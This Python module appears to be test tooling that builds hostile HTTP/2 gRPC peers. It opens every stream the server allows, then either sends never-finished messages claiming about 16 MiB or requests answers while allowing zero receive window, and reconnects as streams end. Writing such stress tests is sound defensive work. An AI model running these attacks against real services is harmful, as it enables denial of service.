"""Hostile peers over plain HTTP/2, as `support.attacks` runs them: they send messages that never
end, or read no answer; a stream that the server ends is followed by another at once."""

from __future__ import annotations

import selectors
import socket
import struct
import threading
from collections.abc import Sequence
from contextlib import suppress

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from support.attacks import Attack

_CLAIMED_BYTES = 16 * 1024 * 1024 - 16
_TICK_S = 0.02


def unfinished_messages(address: str, rpc: str, secret: str | None = None) -> Attack:
    """Send all but the last byte of the largest message, on as many streams as there may be."""
    rest = bytes(_CLAIMED_BYTES - 1)
    return _attack(address, rpc, secret, struct.pack(">BI", 0, _CLAIMED_BYTES) + rest)


def unread_answers(address: str, rpc: str, secret: str, request: bytes) -> Attack:
    """Ask on as many streams as there may be, and let in no byte of an answer."""
    body = struct.pack(">BI", 0, len(request)) + request
    return _attack(address, rpc, secret, body, ends=True, window=0)


def _attack(
    address: str,
    rpc: str,
    secret: str | None,
    body: bytes,
    *,
    ends: bool = False,
    window: int = 65_535,
) -> Attack:
    headers = [
        (":method", "POST"), (":scheme", "http"), (":path", f"/{rpc}"),
        (":authority", address), ("te", "trailers"), ("content-type", "application/grpc"),
    ]  # fmt: skip
    if secret is not None:
        headers.append(("authorization", f"Bearer {secret}"))

    def attack(over: threading.Event) -> None:
        while not over.is_set():
            with suppress(OSError, h2.exceptions.ProtocolError):
                _Peer(address, headers, body, ends, window).run(over)

    return attack


class _Peer:
    """One connection."""

    def __init__(
        self, address: str, headers: Sequence[tuple[str, str]], body: bytes, ends: bool, window: int
    ) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=5)
        self._headers = headers
        self._body = memoryview(body)
        self._ends = ends
        self._talk = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._talk.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        )
        self._sent: dict[int, int] = {}
        self._ready = False

    def run(self, over: threading.Event) -> None:
        """Attack until it is over, or the server hangs up."""
        self._talk.initiate_connection()
        with self._socket, selectors.DefaultSelector() as readable:
            readable.register(self._socket, selectors.EVENT_READ)
            while not over.is_set():
                self._flush()
                while readable.select(_TICK_S):
                    if not (data := self._socket.recv(65_536)):
                        return
                    self._hear(data)
                    if over.is_set():
                        return
                if self._ready:
                    self._open_all()
                    self._send_all()

    def _hear(self, data: bytes) -> None:
        for event in self._talk.receive_data(data):
            if isinstance(event, h2.events.RemoteSettingsChanged):
                self._ready = True
            if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                stream = event.stream_id
                if self._sent.pop(stream, None) is not None:
                    with suppress(h2.exceptions.ProtocolError):
                        self._talk.reset_stream(stream)
        self._flush()

    def _open_all(self) -> None:
        most = self._talk.remote_settings.max_concurrent_streams
        while len(self._sent) < most and self._talk.open_outbound_streams < most:
            stream = self._talk.get_next_available_stream_id()
            self._talk.send_headers(stream, self._headers)
            self._sent[stream] = 0

    def _send_all(self) -> None:
        for stream in list(self._sent):
            while self._sent[stream] < len(self._body):
                begin = self._sent[stream]
                window = self._talk.local_flow_control_window(stream)
                size = min(window, self._talk.max_outbound_frame_size, len(self._body) - begin)
                if size <= 0:
                    break
                end = begin + size
                last = self._ends and end == len(self._body)
                self._talk.send_data(stream, bytes(self._body[begin:end]), end_stream=last)
                self._sent[stream] = end
            self._flush()

    def _flush(self) -> None:
        if data := self._talk.data_to_send():
            self._socket.sendall(data)
